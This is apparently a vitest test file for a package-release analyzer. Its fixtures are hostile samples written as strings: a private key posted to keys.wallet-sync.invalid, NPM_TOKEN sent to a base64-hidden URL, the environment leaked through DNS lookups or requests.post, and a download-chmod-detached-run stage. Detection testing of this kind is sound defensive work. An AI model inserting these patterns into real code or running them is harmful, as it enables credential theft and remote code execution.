import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { analyzeRelease, type AnalysisResult } from '../../src/analyzer/index.js';
import type { Finding } from '../../src/domain/finding.js';
import { tempDir } from '../helpers/temp-dir.js';
import { buildCase, type RuleCase } from './build-artifacts.js';
import { npmBase, npmNext, wheelBase, wheelNext } from './cases/common.js';

// The added code is judged, not only which files have a capability: each release below already
// used the network or spawned processes, and gains a leak or a second stage. Hosts are inert.
let dir: { dir: string; remove: () => Promise<void> };
let n = 0;
beforeAll(async () => {
  dir = await tempDir('airlock-analyzer-added-code-');
});
afterAll(() => dir.remove());

async function analyze(c: Omit<RuleCase, 'name'>): Promise<AnalysisResult> {
  const s = await buildCase(path.join(dir.dir, String(n++)), { name: '', ...c });
  return analyzeRelease({ ecosystem: c.ecosystem, ...(s.previous ? { previous: s.previous } : {}), candidate: s.candidate });
}
const of = (r: AnalysisResult, kind: string): Finding[] => r.findings.filter((f) => f.kind === kind);

const client = `'use strict';
async function getJson(url) {
  const res = await fetch('https://api.wallet-lib.invalid/v1/' + url);
  return res.json();
}
module.exports = { getJson };
`;

describe('exfiltration added to code that already used the network', () => {
  it('a wallet library that already called fetch gains a function posting the private key to a new host', async () => {
    const leak = `${client}
module.exports.importKey = function importKey(privateKey) {
  fetch('https://keys.wallet-sync.invalid/collect', { method: 'POST', body: JSON.stringify({ k: privateKey }) }).catch(() => {});
  return privateKey;
};
`;
    const result = await analyze({ ecosystem: 'npm', previous: [npmBase({ 'index.js': client })], candidate: [npmNext({ 'index.js': leak })] });
    expect(result.verdict).toBe('review');
    expect(of(result, 'secret-access-added')).toContainEqual(expect.objectContaining({ severity: 'high', path: 'index.js', line: 8, message: expect.stringContaining('sends `privateKey` out through fetch()') }));
    expect(of(result, 'network-endpoint-added')).toContainEqual(expect.objectContaining({ severity: 'high', message: expect.stringContaining('keys.wallet-sync.invalid (receives `privateKey`)') }));
    expect(of(result, 'network-code-added')).toEqual([]);
  });

  it('a socket library gains a new file that decodes a URL and sends the npm token with https.get', async () => {
    const socket = "const net = require('net');\nmodule.exports = (port) => net.connect(port);\n";
    const added = "const https = require('https');\nmodule.exports = function report() {\n  const url = Buffer.from('aHR0cHM6Ly90b2tlbnMuc29jay1yZXBvcnQuaW52YWxpZC9u', 'base64').toString();\n  https.get(url + '?t=' + process.env.NPM_TOKEN);\n};\n";
    const result = await analyze({ ecosystem: 'npm', previous: [npmBase({ 'socket.js': socket })], candidate: [npmNext({ 'socket.js': socket, 'lib/report.js': added })] });
    expect(result.verdict).toBe('review');
    expect(of(result, 'secret-access-added')).toContainEqual(expect.objectContaining({ severity: 'high', path: 'lib/report.js', message: expect.stringContaining('process.env.NPM_TOKEN out through https.get()') }));
    expect(of(result, 'network-endpoint-added')).toContainEqual(expect.objectContaining({ severity: 'high', path: 'lib/report.js', message: expect.stringContaining('tokens.sock-report.invalid') }));
  });

  it('a new IIFE serialises the whole environment and leaks it through DNS lookups', async () => {
    const dns = "const dns = require('dns');\nmodule.exports = (h, cb) => dns.lookup(h, cb);\n";
    const iife = `${dns}(function () {\n  const data = Buffer.from(JSON.stringify(process.env)).toString('hex');\n  for (let i = 0; i < data.length; i += 60) dns.lookup(data.slice(i, i + 60) + '.env.dns-leak.invalid', () => {});\n})();\n`;
    const result = await analyze({ ecosystem: 'npm', previous: [npmBase({ 'resolve.js': dns })], candidate: [npmNext({ 'resolve.js': iife })] });
    expect(of(result, 'secret-access-added').map((f) => f.message).join('\n')).toMatch(/sends the whole environment out through a DNS lookup/);
    expect(result.verdict).toBe('review');
  });

  it('Python: a module that already used requests gains code posting dict(os.environ)', async () => {
    const base = 'import requests\n\n\ndef ping():\n    return requests.get("https://api.pylib.invalid/ping")\n';
    const leak = `${base}\n\ndef sync():\n    import json, os\n    requests.post("https://env.pylib-sync.invalid/e", data=json.dumps(dict(os.environ)))\n`;
    const result = await analyze({ ecosystem: 'pypi', previous: [wheelBase({ 'demo_py/net.py': base })], candidate: [wheelNext({ 'demo_py/net.py': leak })] });
    expect(of(result, 'secret-access-added')).toContainEqual(expect.objectContaining({ severity: 'high', message: expect.stringContaining('sends the whole environment out through requests.post()') }));
    expect(of(result, 'network-endpoint-added')).toContainEqual(expect.objectContaining({ severity: 'high', message: expect.stringContaining('env.pylib-sync.invalid') }));
  });

  it('reading the whole environment in added code is secret access even without a visible sink', async () => {
    const result = await analyze({ ecosystem: 'npm', previous: [npmBase()], candidate: [npmNext({ 'lib/env.js': 'module.exports = () => Object.entries(process.env).map(([k, v]) => `${k}=${v}`);\n' })] });
    expect(of(result, 'secret-access-added')).toContainEqual(expect.objectContaining({ severity: 'high', path: 'lib/env.js' }));
  });

  it('passes a library that hands the environment to a child process, and a login call that existed before', async () => {
    const runner = "const { spawn } = require('child_process');\nmodule.exports = (cmd) => spawn(cmd, [], { env: { ...process.env, FORCE_COLOR: '1' } });\n";
    const login = "module.exports = function login(user, password) {\n  return fetch('https://auth.lib.invalid/login', { method: 'POST', body: JSON.stringify({ user, password }) });\n};\n";
    const spawnEnv = await analyze({ ecosystem: 'npm', previous: [npmBase({ 'run.js': runner })], candidate: [npmNext({ 'run.js': runner + '// 1.0.1\n' })] });
    expect(spawnEnv.findings).toEqual([]);
    const same = await analyze({ ecosystem: 'npm', previous: [npmBase({ 'login.js': login })], candidate: [npmNext({ 'login.js': login + 'module.exports.version = 2;\n' })] });
    expect(same.findings).toEqual([]);
    const py = await analyze({ ecosystem: 'pypi', previous: [wheelBase()], candidate: [wheelNext({ 'demo_py/run.py': 'import os, subprocess\n\n\ndef run(cmd):\n    env = os.environ.copy()\n    env["X"] = "1"\n    return subprocess.run(cmd, env=env)\n' })] });
    expect(of(py, 'secret-access-added')).toEqual([]);
  });
});

describe('download-and-execute in code that already spawned processes', () => {
  const helper = "const { execSync, spawn } = require('child_process');\nmodule.exports.version = () => execSync('git --version').toString();\n";

  it('a helper that already shelled out gains download, chmod and a detached start', async () => {
    const stage = `${helper}const fs = require('fs');\nconst os = require('os');\nmodule.exports.update = async () => {\n  const bin = os.tmpdir() + '/helper-update';\n  fs.writeFileSync(bin, Buffer.from(await (await fetch('https://dl.helper-update.invalid/u')).arrayBuffer()));\n  fs.chmodSync(bin, 0o755);\n  spawn(bin, [], { detached: true, stdio: 'ignore' }).unref();\n};\n`;
    const result = await analyze({ ecosystem: 'npm', previous: [npmBase({ 'git.js': helper })], candidate: [npmNext({ 'git.js': stage })] });
    const spawns = of(result, 'process-spawn-added');
    expect(spawns.map((f) => f.severity)).toEqual(expect.arrayContaining(['high']));
    expect(spawns.map((f) => f.message).join('\n')).toMatch(/detached process/);
    expect(spawns.map((f) => f.message).join('\n')).toMatch(/download, chmod, run/);
    expect(result.verdict).toBe('review');
  });

  it('Python: subprocess code gains a Popen with start_new_session from the temp directory', async () => {
    const base = 'import subprocess\n\n\ndef version():\n    return subprocess.check_output(["git", "--version"])\n';
    const stage = `${base}\n\ndef update():\n    import os\n    subprocess.Popen(["/tmp/.helper"], preexec_fn=os.setsid, stdout=subprocess.DEVNULL)\n`;
    const result = await analyze({ ecosystem: 'pypi', previous: [wheelBase({ 'demo_py/git.py': base })], candidate: [wheelNext({ 'demo_py/git.py': stage })] });
    const messages = of(result, 'process-spawn-added').map((f) => f.message).join('\n');
    expect(messages).toMatch(/detached process/);
    expect(messages).toMatch(/temp directory/);
  });

  it('passes a detached start that was there before', async () => {
    const daemon = `${helper}module.exports.start = () => spawn(process.execPath, ['daemon.js'], { detached: true, stdio: 'ignore' }).unref();\n`;
    const result = await analyze({ ecosystem: 'npm', previous: [npmBase({ 'git.js': daemon })], candidate: [npmNext({ 'git.js': daemon + '// 1.0.1\n' })] });
    expect(of(result, 'process-spawn-added')).toEqual([]);
  });
});
